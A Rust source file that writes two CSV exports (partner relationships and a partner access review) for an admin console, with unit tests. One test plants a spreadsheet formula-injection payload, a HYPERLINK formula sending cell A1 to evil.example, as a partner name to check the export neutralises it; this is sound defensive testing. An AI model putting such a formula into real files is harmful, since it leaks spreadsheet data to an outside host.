//! The two CSV files the console saves: Settings › Partner relationships
//! (one row per partner and role, legacy roles and every GDAP relationship,
//! ended ones too) and Review partner access (one row per role held now,
//! with its partner's flags). Their columns are listed in the README.

use super::csv;
use crate::{roles, views, PartnerType, RoleDefinitionId, State, Timestamp};

/// The header row, in order.
pub const RELATIONSHIPS_CSV_COLUMNS: [&str; 10] = [
    "Partner",
    "Partner ID",
    "Relationship types",
    "Relationship",
    "Role",
    "Role id",
    "Privileged",
    "Status",
    "Ends",
    "Auto-extend",
];

/// What "Relationship" says of legacy delegated admin roles.
const LEGACY: &str = "Legacy";

/// "partner-relationships-2026-11-23.csv".
pub fn relationships_csv_filename(now: Timestamp) -> String {
    format!("partner-relationships-{}.csv", now.date_string())
}

/// Every partner you have a relationship with, one row per role it holds
/// or held; a partner with no admin role at all gets one row that says so.
pub fn relationships_csv_rows(state: &State) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    for partner in &state.partners {
        let legacy = state.legacy_roles_of(&partner.id);
        let mut relationships: Vec<_> = state.relationships_of(&partner.id).collect();
        // Nothing but invitations sent: not a relationship yet.
        if partner.types.is_empty() && relationships.is_empty() && legacy.is_none() {
            continue;
        }
        crate::sort::sort_by_key(&mut relationships, |r| r.created_date_time);
        let types: Vec<&str> = partner
            .types
            .iter()
            .map(|t| PartnerType::label(*t))
            .collect();
        let start = |relationship: &str| {
            vec![
                partner.name.clone(),
                partner.mpn_id.clone(),
                types.join(", "),
                relationship.to_string(),
            ]
        };
        let before = rows.len();
        if let Some(legacy) = legacy {
            for role in &legacy.roles {
                let mut row = start(LEGACY);
                row.extend(role_cells(role));
                row.extend([
                    "Active".to_string(),
                    "Never".to_string(),
                    "Not applicable".to_string(),
                ]);
                rows.push(row);
            }
        }
        for r in relationships {
            for role in r.roles() {
                let mut row = start(&r.display_name);
                row.extend(role_cells(role));
                row.extend([
                    r.status.label(),
                    r.end_date_time.map(|e| e.date_string()).unwrap_or_default(),
                    r.auto_extend_duration.label().to_string(),
                ]);
                rows.push(row);
            }
        }
        if rows.len() == before {
            let mut row = start("No admin roles");
            row.extend(std::iter::repeat_n(String::new(), 6));
            rows.push(row);
        }
    }
    rows
}

/// The whole file.
pub fn relationships_csv(state: &State) -> String {
    csv::document(&RELATIONSHIPS_CSV_COLUMNS, &relationships_csv_rows(state))
}

/// Role, Role id, Privileged.
fn role_cells(id: &RoleDefinitionId) -> [String; 3] {
    let privileged = match roles::lookup(id) {
        None => "Unknown role",
        Some(_) if roles::is_privileged(id) => "Yes",
        Some(_) => "No",
    };
    [
        id.display_name(),
        id.as_str().to_string(),
        privileged.to_string(),
    ]
}

/// "partner-access-review-2026-11-23.csv".
pub fn access_review_csv_filename(now: Timestamp) -> String {
    format!("partner-access-review-{}.csv", now.date_string())
}

/// The header row of the review's CSV, in order.
pub const ACCESS_REVIEW_CSV_COLUMNS: [&str; 11] = [
    "Partner",
    "Partner ID",
    "Relationship types",
    "Granted through",
    "Role",
    "Role id",
    "Privileged",
    "Ends",
    "Auto-extend",
    "Flags",
    "Recommended actions",
];

/// One row per partner and admin role held now; the partner's flags and
/// recommended actions repeat on each of its rows so a filtered sheet
/// still shows them.
pub fn access_review_csv_rows(review: &views::AccessReview) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    for partner in &review.partners {
        let flags: Vec<String> = partner
            .flags
            .iter()
            .map(|f| format!("{}: {}", f.kind.label(), f.message))
            .collect();
        let actions: Vec<String> = partner
            .flags
            .iter()
            .map(|f| format!("{}: {}", f.kind.label(), f.recommendation))
            .collect();
        for role in &partner.roles {
            rows.push(vec![
                partner.partner_name.clone(),
                partner.partner_program_id.clone(),
                partner.types_label.clone(),
                role.granted_through.clone(),
                role.name.clone(),
                role.id.as_str().to_string(),
                role.privileged_label().to_string(),
                role.end_date_time
                    .map_or_else(|| "Never".to_string(), |e| e.date_string()),
                if role.legacy {
                    "Not applicable".to_string()
                } else if role.auto_extend {
                    "On, 180 days at a time".to_string()
                } else {
                    "Off".to_string()
                },
                flags.join("\n"),
                actions.join("\n"),
            ]);
        }
    }
    rows
}

/// The review's whole file.
pub fn access_review_csv(review: &views::AccessReview) -> String {
    csv::document(&ACCESS_REVIEW_CSV_COLUMNS, &access_review_csv_rows(review))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::state::test_support::{demo, now};
    use crate::views::access_review;

    fn rows_of<'a>(rows: &'a [Vec<String>], partner: &str) -> Vec<&'a Vec<String>> {
        rows.iter().filter(|r| r[0] == partner).collect()
    }

    #[test]
    fn the_relationships_csv_has_a_row_per_partner_and_role_of_the_demo() {
        let state = demo();
        let rows = relationships_csv_rows(&state);
        assert!(rows
            .iter()
            .all(|r| r.len() == RELATIONSHIPS_CSV_COLUMNS.len()));
        let fabrikam = state.partner("fabrikam-it").unwrap();
        assert_eq!(
            rows_of(&rows, "Fabrikam IT Services")[0],
            &vec![
                "Fabrikam IT Services".to_string(),
                fabrikam.mpn_id.clone(),
                "Reseller & delegated administrator".to_string(),
                "Legacy".to_string(),
                "Global Administrator".to_string(),
                crate::roles::GLOBAL_ADMINISTRATOR.to_string(),
                "Yes".to_string(),
                "Active".to_string(),
                "Never".to_string(),
                "Not applicable".to_string(),
            ]
        );
        let northwind = rows_of(&rows, "Northwind Traders");
        assert_eq!(northwind.len(), 4, "one row per role");
        for row in &northwind {
            assert_eq!(row[3], "Northwind device and user management");
            assert_eq!(row[7], "Active");
            assert_eq!(row[9], "Off");
        }
        let alpine = rows_of(&rows, "Alpine Ski House IT");
        assert_eq!(alpine[0][8], "2027-03-13");
        assert_eq!(alpine[0][9], "On, 180 days at a time");
        // Ended relationships stay in the record, with their status.
        assert!(rows_of(&rows, "Litware Security")
            .iter()
            .all(|r| r[7] == "Terminated"));
        assert!(rows_of(&rows, "Adventure Works Consulting")
            .iter()
            .all(|r| r[7] == "Expired"));
        // A reseller without admin roles is listed once, saying so.
        let contoso = rows_of(&rows, "Contoso Cloud Partners");
        assert_eq!(contoso.len(), 1);
        assert_eq!(contoso[0][3], "No admin roles");
        assert_eq!(contoso[0][4], "");
        // A partner that has only sent an invitation is not a relationship.
        assert!(rows_of(&rows, "Relecloud").is_empty());
        assert_eq!(rows.len(), 24);
    }

    #[test]
    fn the_review_csv_has_a_row_per_role_held_now_with_its_partners_flags() {
        let review = access_review(&demo(), now());
        let rows = access_review_csv_rows(&review);
        let held: usize = review.partners.iter().map(|p| p.roles.len()).sum();
        assert_eq!(rows.len(), held);
        assert_eq!(rows.len(), 14);
        let tailspin = rows_of(&rows, "Tailspin Toys Solutions");
        assert_eq!(tailspin.len(), 3);
        assert_eq!(tailspin[0][3], "Tailspin managed helpdesk");
        assert_eq!(tailspin[0][7], "2026-11-28");
        assert_eq!(
            tailspin[0][9],
            "Access ending soon: The GDAP relationship “Tailspin managed helpdesk” ends in 5 days, on 2026-11-28.\nReseller with admin roles: Is otherwise only a reseller, yet holds admin roles: selling you products needs none."
        );
        assert!(tailspin[0][10].starts_with("Access ending soon: If you still need"));
        let fabrikam = rows_of(&rows, "Fabrikam IT Services");
        assert_eq!(fabrikam[0][3], "Legacy delegated admin roles");
        assert_eq!(fabrikam[0][6], "Privileged");
        assert_eq!(fabrikam[0][7], "Never");
        let text = access_review_csv(&review);
        assert!(text.starts_with("\u{FEFF}\"Partner\",\"Partner ID\",\"Relationship types\",\"Granted through\",\"Role\""));
        assert_eq!(text.matches("\r\n").count(), 15, "header and 14 rows");
    }

    #[test]
    fn a_hostile_partner_name_reaches_the_spreadsheet_as_text() {
        let mut state = demo();
        let hostile = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")";
        for p in state.partners.iter_mut() {
            match p.id.as_str() {
                "northwind-traders" => p.name = hostile.to_string(),
                "tailspin-toys" => p.name = "Tailspin \"Toys\", Ltd\nZürich".to_string(),
                "alpine-ski-house" => p.mpn_id = "-1+1".to_string(),
                _ => {}
            }
        }
        for text in [
            relationships_csv(&state),
            access_review_csv(&access_review(&state, now())),
        ] {
            assert!(
                text.contains("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Open\"\")\""),
                "{text}"
            );
            assert!(text.contains("\"Tailspin \"\"Toys\"\", Ltd\nZürich\""));
            assert!(text.contains("\"'-1+1\""));
            // No cell anywhere starts a formula.
            for start in ["\"=", "\"+", "\"-", "\"@"] {
                assert!(!text.contains(&format!(",{start}")), "{start}");
                assert!(!text.contains(&format!("\n{start}")), "{start}");
            }
        }
    }

    #[test]
    fn the_files_are_named_by_the_day() {
        assert_eq!(
            relationships_csv_filename(now()),
            "partner-relationships-2026-11-23.csv"
        );
        assert_eq!(
            access_review_csv_filename(now()),
            "partner-access-review-2026-11-23.csv"
        );
    }
}
